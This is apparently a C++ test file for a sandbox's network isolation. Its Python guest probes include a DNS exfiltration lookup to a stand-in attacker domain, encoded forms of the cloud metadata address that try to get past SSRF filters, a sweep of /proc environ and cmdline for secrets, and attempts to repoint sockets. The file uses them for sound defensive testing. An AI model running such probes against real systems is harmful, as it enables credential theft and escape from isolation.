// The network through the real binary: what leaves the sandbox, what never
// does, and what the result says. The "outside" is a real TCP server this test
// starts on the host's loopback, reachable from a guest only through an
// allowlisted IP literal or --add-host name with --unsafe-allow-private-address
// (this machine has no other network).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "gtest/gtest.h"
#include "tests/util/json_read.h"
#include "tests/util/subprocess.h"

namespace sentry::testing {
namespace {

double NowSec() {
  return std::chrono::duration<double>(std::chrono::steady_clock::now().time_since_epoch()).count();
}

// A host service on 127.0.0.1: each connection's request head is recorded,
// then it is answered with `reply_bytes` bytes of body and closed (unless
// wait_for_close, where it reads to EOF and records how long that took).
class HostServer {
 public:
  explicit HostServer(size_t reply_bytes = 5, bool wait_for_close = false, int pace_ms = 0)
      : reply_bytes_(reply_bytes), wait_for_close_(wait_for_close), pace_ms_(pace_ms) {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    EXPECT_EQ(bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
    EXPECT_EQ(listen(fd_, 64), 0);
    socklen_t len = sizeof(a);
    getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    thread_ = std::thread([this] { Loop(); });
  }
  ~HostServer() {
    stop_ = true;
    thread_.join();
    close(fd_);
  }
  int port() const { return port_; }
  std::string addr() const { return "127.0.0.1:" + std::to_string(port_); }
  int connections() const { return connections_; }
  std::vector<std::string> requests() {
    std::lock_guard<std::mutex> lock(mu_);
    return requests_;
  }
  double eof_after() const { return eof_after_; }

 private:
  void Loop() {
    while (!stop_) {
      pollfd p{fd_, POLLIN, 0};
      if (poll(&p, 1, 50) <= 0) continue;
      int c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (c < 0) continue;
      ++connections_;
      std::string head;
      char buf[4096];
      double start = NowSec();
      while (head.find("\r\n\r\n") == std::string::npos) {
        pollfd q{c, POLLIN, 0};
        if (poll(&q, 1, 3000) <= 0) break;
        ssize_t n = read(c, buf, sizeof(buf));
        if (n <= 0) break;
        head.append(buf, static_cast<size_t>(n));
      }
      {
        std::lock_guard<std::mutex> lock(mu_);
        requests_.push_back(head);
      }
      if (wait_for_close_) {
        while (true) {
          pollfd q{c, POLLIN, 0};
          if (poll(&q, 1, 10000) <= 0) break;
          if (read(c, buf, sizeof(buf)) <= 0) break;
        }
        eof_after_ = NowSec() - start;
      } else {
        std::string reply =
            "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(reply_bytes_) + "\r\n\r\n";
        (void)!send(c, reply.data(), reply.size(), MSG_NOSIGNAL);
        std::string body(64 << 10, 'x');
        for (size_t sent = 0; sent < reply_bytes_;) {
          size_t n = std::min(body.size(), reply_bytes_ - sent);
          ssize_t w = send(c, body.data(), n, MSG_NOSIGNAL);
          if (w <= 0) break;
          sent += static_cast<size_t>(w);
          if (pace_ms_) std::this_thread::sleep_for(std::chrono::milliseconds(pace_ms_));
        }
      }
      close(c);
    }
  }

  size_t reply_bytes_;
  bool wait_for_close_;
  int pace_ms_;  // a pause after each 64 KiB sent
  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<int> connections_{0};
  std::atomic<double> eof_after_{-1};
  std::mutex mu_;
  std::vector<std::string> requests_;
  std::thread thread_;
};

struct GuestRun {
  ProcessResult p;
  nlohmann::json r;
  std::string Describe() const {
    return "exit " + std::to_string(p.exit_code) + "\n" + p.out + p.err;
  }
  std::string Denied() const {
    std::string out;
    for (const nlohmann::json& d : At(r, "denied")) {
      out +=
          Str(At(d, "argument")) + " -> " + Str(At(d, "error")) + ": " + Str(At(d, "hint")) + "\n";
    }
    return out;
  }
};

GuestRun RunPy(const std::string& code, std::vector<std::string> flags) {
  flags.insert(flags.begin(), "--json");
  GuestRun run;
  run.p = RunSentry(flags, {"/usr/bin/python3", "-c", code}, "", 60);
  std::optional<nlohmann::json> v = ParseJson(run.p.out);
  EXPECT_TRUE(v.has_value()) << run.p.out << run.p.err;
  if (v) run.r = *v;
  return run;
}

std::string Fetch(const std::string& host_port) {
  return "import urllib.request\n"
         "print(urllib.request.urlopen('http://" +
         host_port + "/x', timeout=10).read().decode())\n";
}

TEST(NetworkTest, AnAllowlistedHostServiceIsReachedOnlyWithTheUnsafeFlag) {
  HostServer server;
  // Without the flag the rule is refused as it is read, naming the flag.
  GuestRun strict = RunPy(Fetch(server.addr()), {"--allow-net", server.addr()});
  EXPECT_EQ(Int(At(strict.r, "exitCode")), 125) << strict.Describe();
  EXPECT_NE(Str(At(strict.r, "error")).find("--unsafe-allow-private-address"), std::string::npos)
      << strict.Describe();
  EXPECT_EQ(server.connections(), 0) << "the guest reached the host's loopback";

  GuestRun run =
      RunPy(Fetch(server.addr()), {"--allow-net", server.addr(), "--unsafe-allow-private-address"});
  EXPECT_EQ(Int(At(run.r, "exitCode")), 0) << run.Describe();
  EXPECT_EQ(Str(At(run.r, "stdout")), "xxxxx\n") << run.Describe();
  EXPECT_EQ(server.connections(), 1);
  EXPECT_EQ(Int(At(At(run.r, "network"), "connections")), 1) << run.p.out;
  EXPECT_GT(Int(At(At(run.r, "network"), "bytesOut")), 40) << run.p.out;
  EXPECT_GE(Int(At(At(run.r, "network"), "bytesIn")), 5) << run.p.out;
}

TEST(NetworkTest, NamesAreResolvedByTheSentryAndPrivateAnswersRefused) {
  HostServer server;
  std::string port = std::to_string(server.port());
  std::string code =
      "import socket\nprint(socket.gethostbyname('svc.test'))\n" + Fetch("svc.test:" + port);
  GuestRun ok = RunPy(code, {"--allow-net", "svc.test:" + port, "--add-host", "svc.test:127.0.0.1",
                             "--unsafe-allow-private-address"});
  EXPECT_EQ(Str(At(ok.r, "stdout")), "127.0.0.1\nxxxxx\n") << ok.Describe();
  EXPECT_EQ(server.connections(), 1);
  // Without the flag the name resolves to loopback: refused (DNS rebinding).
  GuestRun refused =
      RunPy(code, {"--allow-net", "svc.test:" + port, "--add-host", "svc.test:127.0.0.1"});
  EXPECT_NE(Str(At(refused.r, "stderr")).find("gaierror"), std::string::npos) << refused.Describe();
  EXPECT_NE(refused.Denied().find("dns A svc.test"), std::string::npos) << refused.Denied();
  EXPECT_EQ(server.connections(), 1) << "the refused run reached the host";
}

TEST(NetworkTest, OnlyTheAllowedPortLeaves) {
  HostServer allowed, other;
  std::string code =
      "import socket, errno\n"
      "try:\n"
      "    socket.create_connection(('127.0.0.1', " +
      std::to_string(other.port()) +
      "), timeout=3); print('reached')\n"
      "except OSError as e: print(errno.errorcode[e.errno])\n";
  GuestRun run = RunPy(code, {"--allow-net", allowed.addr(), "--unsafe-allow-private-address"});
  // 127.0.0.1 on another port is the sandbox's own loopback, where nothing listens.
  EXPECT_EQ(Str(At(run.r, "stdout")), "ECONNREFUSED\n") << run.Describe();
  EXPECT_EQ(other.connections(), 0);
}

TEST(NetworkTest, TheMetadataServiceIsRefusedInEveryForm) {
  std::string code =
      "import socket, errno\n"
      "for host in ['169.254.169.254', '2852039166', '0xA9FEA9FE', '0251.0376.0251.0376',\n"
      "             '169.254.43518', '::ffff:169.254.169.254', '10.0.0.1', '100.64.0.1',\n"
      "             '192.168.1.1', '172.16.0.1', 'fd00::1', '[::ffff:a9fe:a9fe]', 'meta.test']:\n"
      "    try:\n"
      "        socket.create_connection((host.strip('[]'), 80), timeout=3); print(host, "
      "'reached')\n"
      "    except OSError as e: print(host, errno.errorcode.get(e.errno, e))\n";
  for (const std::vector<std::string>& flags :
       {std::vector<std::string>{}, std::vector<std::string>{"--allow-net", "example.com"},
        std::vector<std::string>{"--allow-net", "meta.test", "--add-host",
                                 "meta.test:169.254.169.254"}}) {
    GuestRun run = RunPy(code, flags);
    EXPECT_EQ(Str(At(run.r, "stdout")).find("reached"), std::string::npos) << run.Describe();
    std::string out = Str(At(run.r, "stdout"));
    size_t refused = 0;
    for (size_t at = 0; (at = out.find(" ENETUNREACH\n", at)) != std::string::npos; ++at) {
      ++refused;
    }
    EXPECT_EQ(refused, 12u) << run.Describe();
    // By a name that resolves to it: no answer at all.
    EXPECT_NE(out.find("meta.test [Errno -2]"), std::string::npos) << run.Describe();
    EXPECT_NE(run.Denied().find(R"(sin_port=htons(80), sin_addr=inet_addr("169.254.169.254"))"),
              std::string::npos)
        << run.Denied();
  }
}

TEST(NetworkTest, LookupsOfOtherNamesFailFastAndAreListed) {
  std::string code =
      "import socket, time\n"
      "t = time.time()\n"
      "for name in ['example.com', 'c2VjcmV0LWRhdGE.exfil.attacker.example']:\n"
      "    try: socket.getaddrinfo(name, 443); print('resolved', name)\n"
      "    except socket.gaierror as e: print('failed', e.errno)\n"
      "print('fast' if time.time() - t < 1.5 else 'slow')\n";
  for (const std::vector<std::string>& flags :
       {std::vector<std::string>{}, std::vector<std::string>{"--allow-net", "api.example.org"}}) {
    GuestRun run = RunPy(code, flags);
    EXPECT_EQ(Str(At(run.r, "stdout")), "failed -2\nfailed -2\nfast\n") << run.Describe();
    EXPECT_NE(run.Denied().find("dns A example.com"), std::string::npos) << run.Denied();
    EXPECT_NE(run.Denied().find("dns A c2VjcmV0LWRhdGE.exfil.attacker.example"), std::string::npos)
        << run.Denied();
  }
}

TEST(NetworkTest, NetBytesCutsTheConnections) {
  // 8 MiB at about 3 MiB/s: the meter samples every 100 ms, so a cut comes
  // within a tenth of a second's traffic past the cap.
  HostServer server(8 << 20, false, 20);
  std::string code =
      "import socket\n"
      "s = socket.create_connection(('127.0.0.1', " +
      std::to_string(server.port()) +
      "))\n"
      "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
      "got = 0\n"
      "try:\n"
      "    while True:\n"
      "        b = s.recv(65536)\n"
      "        if not b: break\n"
      "        got += len(b)\n"
      "except OSError as e: print('error', e.errno)\n"
      "print('got', got < 8 << 20)\n";
  GuestRun run = RunPy(code, {"--allow-net", server.addr(), "--unsafe-allow-private-address",
                              "--net-bytes", "1m", "--timeout", "20"});
  EXPECT_NE(Str(At(run.r, "stdout")).find("got True"), std::string::npos) << run.Describe();
  EXPECT_EQ(Str(At(run.r, "limit")), "network") << run.Describe();
  EXPECT_LT(Num(At(At(run.r, "network"), "bytesIn")), 2.0 * (1 << 20)) << run.p.out;
}

TEST(NetworkTest, AGuestCloseReachesThePeer) {
  HostServer server(0, /*wait_for_close=*/true);
  std::string code =
      "import socket, time\n"
      "s = socket.create_connection(('127.0.0.1', " +
      std::to_string(server.port()) +
      "))\n"
      "s.sendall(b'HEAD / HTTP/1.0\\r\\n\\r\\n'); time.sleep(0.3); s.close(); time.sleep(2)\n";
  GuestRun run = RunPy(code, {"--allow-net", server.addr(), "--unsafe-allow-private-address"});
  EXPECT_EQ(Int(At(run.r, "exitCode")), 0) << run.Describe();
  EXPECT_GT(server.eof_after(), 0) << "the server never saw the close";
  EXPECT_LT(server.eof_after(), 1.0) << "the close reached the server late";
}

TEST(NetworkTest, AsyncioAndManyConnectionsOut) {
  HostServer server;
  std::string code =
      "import asyncio\n"
      "async def one():\n"
      "    r, w = await asyncio.open_connection('127.0.0.1', " +
      std::to_string(server.port()) +
      ")\n"
      "    w.write(b'GET / HTTP/1.0\\r\\n\\r\\n'); await w.drain()\n"
      "    data = await r.read(); w.close(); return data.endswith(b'xxxxx')\n"
      "async def main(): return await asyncio.gather(*[one() for _ in range(30)])\n"
      "print(all(asyncio.run(main())))\n";
  GuestRun run = RunPy(code, {"--allow-net", server.addr(), "--unsafe-allow-private-address"});
  EXPECT_EQ(Str(At(run.r, "stdout")), "True\n") << run.Describe();
  EXPECT_EQ(server.connections(), 30);
  EXPECT_EQ(Int(At(At(run.r, "network"), "connections")), 30) << run.p.out;
}

TEST(NetworkTest, AFloodOfRefusedConnectsStaysCheap) {
  std::string code =
      "import socket, time\n"
      "t = time.time(); n = 0\n"
      "for i in range(2000):\n"
      "    s = socket.socket()\n"
      "    try: s.connect(('93.184.216.34', 443))\n"
      "    except OSError: n += 1\n"
      "    s.close()\n"
      "print(n, time.time() - t < 10)\n";
  GuestRun run = RunPy(code, {"--allow-net", "example.com:443"});
  EXPECT_EQ(Str(At(run.r, "stdout")), "2000 True\n") << run.Describe();
  EXPECT_EQ(At(run.r, "denied").size(), 20u);
}

// An upstream HTTP(S) service for --secret: a Python server on the host's
// loopback that records each request's headers in a file (never in its
// replies, so the guest cannot learn them from the traffic it sees).
class Upstream {
 public:
  explicit Upstream(bool tls) {
    char tmpl[] = "/tmp/sentry-upstream-XXXXXX";
    dir_ = mkdtemp(tmpl);
    Write("server.py", R"PY(
import http.server, json, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        with open(sys.argv[1] + "/requests", "a") as f:
            f.write(json.dumps({"path": self.path, "headers": dict(self.headers),
                                "body": len(body)}) + "\n")
        out = b"upstream says hi\n"
        self.send_response(200); self.send_header("Content-Length", str(len(out)))
        self.end_headers(); self.wfile.write(out)
    do_POST = do_GET
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
if sys.argv[2] == "tls":
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(sys.argv[1] + "/cert.pem", sys.argv[1] + "/key.pem")
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
open(sys.argv[1] + "/port.tmp", "w").write(str(srv.server_address[1]))
import os; os.rename(sys.argv[1] + "/port.tmp", sys.argv[1] + "/port")
srv.serve_forever()
)PY");
    if (tls) {
      ProcessResult r =
          RunProcess({"/usr/bin/openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
                      "-keyout", dir_ + "/key.pem", "-out", dir_ + "/cert.pem", "-days", "2",
                      "-subj", "/CN=api.test", "-addext", "subjectAltName=DNS:api.test"});
      EXPECT_EQ(r.exit_code, 0) << r.err;
    }
    pid_ = fork();
    if (pid_ == 0) {
      execl("/usr/bin/python3", "python3", (dir_ + "/server.py").c_str(), dir_.c_str(),
            tls ? "tls" : "plain", nullptr);
      _exit(127);
    }
    for (int i = 0; i < 100 && port_ == 0; ++i) {
      usleep(50 * 1000);
      port_ = std::atoi(Read("port").c_str());
    }
    EXPECT_NE(port_, 0) << "the upstream server did not start";
  }
  ~Upstream() {
    kill(pid_, SIGKILL);
    waitpid(pid_, nullptr, 0);
    RunProcess({"/bin/rm", "-rf", dir_});
  }
  int port() const { return port_; }
  std::string cert() const { return dir_ + "/cert.pem"; }
  std::vector<nlohmann::json> Requests() const {
    std::vector<nlohmann::json> out;
    std::string all = Read("requests");
    for (size_t at = 0, nl; (nl = all.find('\n', at)) != std::string::npos; at = nl + 1) {
      if (auto v = ParseJson(all.substr(at, nl - at))) out.push_back(*v);
    }
    return out;
  }

 private:
  void Write(const std::string& name, const std::string& text) const {
    FILE* f = fopen((dir_ + "/" + name).c_str(), "w");
    fwrite(text.data(), 1, text.size(), f);
    fclose(f);
  }
  std::string Read(const std::string& name) const {
    std::string out;
    FILE* f = fopen((dir_ + "/" + name).c_str(), "r");
    if (!f) return out;
    char buf[4096];
    size_t n;
    while ((n = fread(buf, 1, sizeof(buf), f)) > 0) out.append(buf, n);
    fclose(f);
    return out;
  }
  std::string dir_;
  pid_t pid_ = -1;
  int port_ = 0;
};

// What the guest tries, to find the secret: its environment, every process's
// environ and cmdline under /proc, the replies it gets, and a forged header.
constexpr const char* kSecretProbe = R"PY(
import glob, os, urllib.request
req = urllib.request.Request("http://api.test/v1/items?x=1", data=b"x" * 50000,
                             headers={"Authorization": "forged-by-guest"})
reply = urllib.request.urlopen(req, timeout=10)
body = reply.read()
seen = body + repr(reply.headers.items()).encode() + repr(dict(os.environ)).encode()
for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try: seen += open(p, "rb").read()
    except OSError: pass
needle = ("TOP" + "SECRET").encode()  # not spelled out: this program's text is in /proc
print(body.decode().strip(), needle in seen)
)PY";

TEST(NetworkTest, SecretHeaderIsAddedUpstreamAndNeverSeenInside) {
  Upstream up(/*tls=*/false);
  std::string rule = "http://api.test:" + std::to_string(up.port()) + "=Authorization:env:API_KEY";
  GuestRun run = [&] {
    setenv("API_KEY", "Bearer TOPSECRET-1", 1);
    GuestRun r = RunPy(kSecretProbe, {"--secret", rule, "--add-host", "api.test:127.0.0.1",
                                      "--unsafe-allow-private-address"});
    unsetenv("API_KEY");
    return r;
  }();
  EXPECT_EQ(Str(At(run.r, "stdout")), "upstream says hi False\n") << run.Describe();
  std::vector<nlohmann::json> reqs = up.Requests();
  ASSERT_EQ(reqs.size(), 1u);
  EXPECT_EQ(Str(At(At(reqs[0], "headers"), "Authorization")), "Bearer TOPSECRET-1");
  EXPECT_EQ(Str(At(reqs[0], "path")), "/v1/items?x=1");
  EXPECT_EQ(Int(At(reqs[0], "body")), 50000);
  EXPECT_EQ(Int(At(At(run.r, "network"), "connections")), 1) << run.p.out;
  EXPECT_EQ(run.p.out.find("TOPSECRET"), std::string::npos) << "the result holds the secret";
}

TEST(NetworkTest, SecretUpstreamOverTlsIsVerified) {
  Upstream up(/*tls=*/true);
  std::string rule =
      "api.test:" + std::to_string(up.port()) + "=X-Api-Key:file:" + up.cert() + ".key";
  FILE* f = fopen((up.cert() + ".key").c_str(), "w");
  fputs("TOPSECRET-2\n", f);
  fclose(f);
  std::string fetch =
      "import urllib.request, urllib.error\n"
      "try: print(urllib.request.urlopen('http://api.test/tls', timeout=10).read().decode())\n"
      "except urllib.error.HTTPError as e: print(e.code, e.read().decode())\n";
  std::vector<std::string> flags = {"--secret", rule, "--add-host", "api.test:127.0.0.1",
                                    "--unsafe-allow-private-address"};
  // The system CA store does not know the test's certificate: refused.
  GuestRun untrusted = RunPy(fetch, flags);
  EXPECT_NE(Str(At(untrusted.r, "stdout")).find("502 sentry proxy: TLS to api.test failed"),
            std::string::npos)
      << untrusted.Describe();
  EXPECT_TRUE(up.Requests().empty());
  setenv("SSL_CERT_FILE", up.cert().c_str(), 1);
  GuestRun trusted = RunPy(fetch, flags);
  unsetenv("SSL_CERT_FILE");
  EXPECT_EQ(Str(At(trusted.r, "stdout")), "upstream says hi\n\n") << trusted.Describe();
  std::vector<nlohmann::json> reqs = up.Requests();
  ASSERT_EQ(reqs.size(), 1u);
  EXPECT_EQ(Str(At(At(reqs[0], "headers"), "X-Api-Key")), "TOPSECRET-2");
}

TEST(NetworkTest, SecretHostOnlyOverPlainHttpInside) {
  Upstream up(/*tls=*/false);
  setenv("API_KEY", "TOPSECRET-3", 1);
  GuestRun run = RunPy(
      "import socket, errno\n"
      "try: socket.create_connection(('api.test', 443), timeout=3)\n"
      "except OSError as e: print(errno.errorcode[e.errno])\n",
      {"--secret", "http://api.test:" + std::to_string(up.port()) + "=Authorization:env:API_KEY"});
  unsetenv("API_KEY");
  EXPECT_EQ(Str(At(run.r, "stdout")), "ECONNREFUSED\n") << run.Describe();
  EXPECT_NE(run.Denied().find("plain http://"), std::string::npos) << run.Denied();
}

TEST(NetworkTest, SecretFlagErrors) {
  unsetenv("SENTRY_TEST_UNSET_VAR");
  for (const std::string& bad :
       {std::string("api.test=Authorization:env:SENTRY_TEST_UNSET_VAR"),
        std::string("api.test=Authorization:Bearer xyz"), std::string("api.test"),
        std::string("10.0.0.1=Authorization:env:PATH"),
        std::string("api.test=Bad Header:env:PATH")}) {
    ProcessResult r = RunSentry({"--secret", bad}, {"/bin/true"});
    EXPECT_EQ(r.exit_code, 125) << bad;
    EXPECT_NE(r.err.find("--secret"), std::string::npos) << r.err;
  }
}

// A socket connected out lives in the host's network namespace: the guest
// must not be able to point it elsewhere. connect(AF_UNSPEC) would disconnect
// it (then sendmsg with MSG_FASTOPEN could connect it anywhere): the sentry
// refuses every connect, bind and sendto on a socket outside the sandbox.
TEST(NetworkTest, AConnectionOutCannotBeRepointed) {
  HostServer allowed, other;
  std::string code =
      "import ctypes, errno, socket, struct\n"
      "libc = ctypes.CDLL(None, use_errno=True)\n"
      "s = socket.create_connection(('127.0.0.1', " +
      std::to_string(allowed.port()) +
      "))\n"
      "unspec = struct.pack('HH12x', socket.AF_UNSPEC, 0)\n"
      "r = libc.connect(s.fileno(), unspec, len(unspec))\n"
      "print('disconnect', r, errno.errorcode.get(ctypes.get_errno()))\n"
      "target = ('127.0.0.1', " +
      std::to_string(other.port()) +
      ")\n"
      "for what, f in [('connect', lambda: s.connect(target)),\n"
      "                ('sendto', lambda: s.sendto(b'x', target)),\n"
      "                ('fastopen', lambda: s.sendmsg([b'x'], [], socket.MSG_FASTOPEN, target)),\n"
      "                ('sendmsg', lambda: s.sendmsg([b'x'])),\n"
      "                ('bind', lambda: s.bind(('0.0.0.0', 0)))]:\n"
      "    try: f(); print(what, 'ok')\n"
      "    except OSError as e: print(what, errno.errorcode.get(e.errno))\n";
  GuestRun run = RunPy(code, {"--allow-net", allowed.addr(), "--unsafe-allow-private-address"});
  EXPECT_EQ(Str(At(run.r, "stdout")).rfind("disconnect -1 EACCES\n", 0), 0u) << run.Describe();
  // An address is refused on the sentry's host-side socket, MSG_FASTOPEN's
  // too; a send without one goes to the connected peer, as a write() does.
  for (const char* expected :
       {"connect EACCES", "sendto EACCES", "fastopen EACCES", "bind EACCES", "sendmsg ok"}) {
    EXPECT_NE(Str(At(run.r, "stdout")).find(expected), std::string::npos) << run.Describe();
  }
  usleep(200 * 1000);
  EXPECT_EQ(other.connections(), 0) << "the guest repointed a connection out";
}

// The sandbox's own loopback, as agent code uses it: an HTTP server and
// urllib in one run, asyncio streams, UDP, bind conflicts, a closed port.
TEST(NetworkTest, LoopbackServicesInsideTheSandbox) {
  std::string code = R"PY(
import asyncio, errno, http.server, socket, threading, urllib.request
open("hello.txt", "w").write("hi there")
srv = http.server.HTTPServer(("127.0.0.1", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=srv.serve_forever, daemon=True).start()
print("http", urllib.request.urlopen("http://127.0.0.1:8000/hello.txt", timeout=5).read().decode())
print("http6", urllib.request.urlopen("http://localhost:8000/hello.txt", timeout=5).status)
try: socket.socket().bind(("127.0.0.1", 8000))
except OSError as e: print("bind", errno.errorcode[e.errno])
try: socket.create_connection(("127.0.0.1", 8001), timeout=3)
except OSError as e: print("closed", errno.errorcode[e.errno])
u1 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u1.bind(("::1", 0))
u2 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u2.sendto(b"udp", u1.getsockname())
print("udp", u1.recvfrom(10)[0].decode())
async def main():
    async def echo(r, w):
        w.write((await r.readline()).upper()); await w.drain(); w.close()
    server = await asyncio.start_server(echo, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    r, w = await asyncio.open_connection("127.0.0.1", port)
    w.write(b"async\n"); print("asyncio", (await r.readline()).decode().strip()); w.close()
    server.close()
asyncio.run(main())
)PY";
  GuestRun run = RunPy(code, {});
  EXPECT_EQ(
      Str(At(run.r, "stdout")),
      "http hi there\nhttp6 200\nbind EADDRINUSE\nclosed ECONNREFUSED\nudp udp\nasyncio ASYNC\n")
      << run.Describe();
  EXPECT_EQ(Int(At(At(run.r, "network"), "connections")), 0) << "nothing left the sandbox";
}

// A connect out that the world refuses fails as connect(2) says, late answer
// or not.
TEST(NetworkTest, AConnectOutThatIsRefusedSaysSo) {
  int closed_port;
  {
    HostServer gone;
    closed_port = gone.port();
  }
  std::string code =
      "import socket, errno\n"
      "for blocking in [True, False]:\n"
      "    s = socket.socket(); s.setblocking(blocking)\n"
      "    try: s.connect(('127.0.0.1', " +
      std::to_string(closed_port) +
      ")); print('connected')\n"
      "    except OSError as e: print(errno.errorcode.get(e.errno, e.errno))\n";
  GuestRun run = RunPy(code, {"--allow-net", "127.0.0.1:" + std::to_string(closed_port),
                              "--unsafe-allow-private-address"});
  EXPECT_EQ(Str(At(run.r, "stdout")), "ECONNREFUSED\nECONNREFUSED\n") << run.Describe();
}

}  // namespace
}  // namespace sentry::testing
